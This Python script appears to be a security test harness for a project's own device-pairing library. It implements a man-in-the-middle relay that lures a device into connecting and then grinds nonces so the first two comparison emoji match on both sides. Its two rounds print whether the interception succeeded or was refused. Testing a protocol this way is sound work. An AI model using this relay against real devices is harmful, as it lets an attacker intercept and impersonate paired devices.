"""An attacker between two devices whose persons compare: it chooses its part of what they see when
it knows as much as it ever can, and so that the first emoji are alike.

steerer.py ADDRESS     announces itself as `INSTANCE`, waiting to be compared, and goes to the one
                       at ADDRESS when another device comes. The first time it answers late who
                       came, and prints "between" once both compare; the second time it reveals
                       late to the one at ADDRESS, and prints "refused" or "taken"
"""

import asyncio
import contextlib
import sys
from collections.abc import Callable

from peers import pairing, short_value
from peers.addresses import Endpoint
from peers.beacon import Beacon
from peers.discovery import Discovery
from peers.group import found, group_of, hash_of
from peers.identity import Identity
from peers.interfaces import Interfaces
from peers.pairing import Pairing, Role
from peers.pairing_opening import Opening, Way
from peers.pairing_outputs import Compare, SendFrame
from peers.signalling import FrameStream, Intent, SignallingServer, StreamClosed, dial

INSTANCE = "0" * 16
"""Of two that compare the lower goes to the other."""

NAME = "Your other computer"
ALIKE = 2
"""So many emoji are found in thousands of tries; all seven take thousands of billions."""


class Steering(Opening):
    """Its nonce is not drawn before, but chosen at the latest moment."""

    wanted: bytes = b""
    """The value that is to be shown here as well; empty: be honest."""

    def _write(self) -> bytes:
        is_revealing = not self._initiator or self._is_proven
        if self.wanted and is_revealing:
            self._steer()
        return super()._write()

    def _steer(self) -> None:
        wanted = short_value.emoji_numbers(self.wanted)[:ALIKE]
        if not self._their_nonce:
            self._their_nonce = short_value.draw_nonce()  # it can only guess
        while short_value.emoji_numbers(self.value())[:ALIKE] != wanted:
            self._nonce = short_value.draw_nonce()


class Side:
    """The conversation with one of the two."""

    def __init__(self, role: Role, stream: FrameStream) -> None:
        me = Identity.generate()
        statement = found(me, NAME, "Linux", 1)
        self.compares = False
        self._stream = stream
        self.machine = Pairing(
            role,
            way=Way.COMPARED,
            identity=me,
            commitment=None,
            name=NAME,
            platform="Linux",
            conversations=0,
            group=group_of(hash_of(statement), [statement]),
        )
        self.opening = self.machine._opening

    async def until(self, is_so: Callable[[], bool]) -> None:
        """Go on until then. Raises StreamClosed."""
        await self.send()
        while not is_so():
            self.machine.receive(await self._stream.read_frame())
            await self.send()

    async def send(self) -> None:
        """What the machine wants sent."""
        for output in self.machine.outputs():
            if isinstance(output, SendFrame):
                await self._stream.write_frame(output.frame)
            self.compares = self.compares or isinstance(output, Compare)


class Middle:
    """Between the one that comes and the one at the endpoint that is found."""

    def __init__(self) -> None:
        self.endpoint: asyncio.Future[Endpoint] = asyncio.get_running_loop().create_future()
        self._rounds = [self._answer_late, self._reveal_late]

    async def take(self, _intent: Intent, stream: FrameStream) -> None:
        """The one has come."""
        stream.established()
        await stream.read_frame()  # who it is
        onward = await dial(await self.endpoint, Intent.COMPARE, Interfaces())
        await onward.write_frame(INSTANCE.encode())
        try:
            await self._rounds.pop(0)(Side(Role.SHOWER, stream), Side(Role.SCANNER, onward))
        finally:
            await onward.close()

    async def _answer_late(self, coming: Side, other: Side) -> None:
        """What the other one will see is settled before the first hears a word."""
        await other.until(lambda: other.opening.is_finished)
        coming.opening.wanted = other.opening.value()
        await asyncio.gather(*(s.until(lambda s=s: s.compares) for s in (coming, other)))
        print("between", flush=True)
        for side in (coming, other):
            side.machine.match()
        with contextlib.suppress(StreamClosed):
            await asyncio.gather(*(s.until(lambda s=s: s.machine.ended) for s in (coming, other)))

    async def _reveal_late(self, coming: Side, other: Side) -> None:
        """What the first sees is settled, and only then is revealed what the other was promised."""
        await coming.until(lambda: coming.compares)
        other.opening.wanted = coming.opening.value()
        try:
            await other.until(lambda: other.compares)
        except StreamClosed:
            print("refused", flush=True)
            return
        print("taken", flush=True)


async def main(address: str) -> None:
    """Attack until standard input ends."""
    pairing.Opening = Steering
    middle = Middle()
    server = SignallingServer(Interfaces(), 0, middle.take)
    port = await server.start()

    def sighted(sighting) -> None:
        is_it = address in sighting.addresses and sighting.beacon is not None
        if is_it and not middle.endpoint.done():
            middle.endpoint.set_result(Endpoint(address, sighting.port))

    discovery = Discovery(Interfaces(), port, on_found=sighted, on_lost=lambda _: None, poll_s=0.2)
    discovery._instance = INSTANCE
    discovery.show_beacon(Beacon(NAME, compares=True))
    await discovery.start()
    try:
        await asyncio.to_thread(sys.stdin.read)
    finally:
        await discovery.stop()
        await server.stop()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
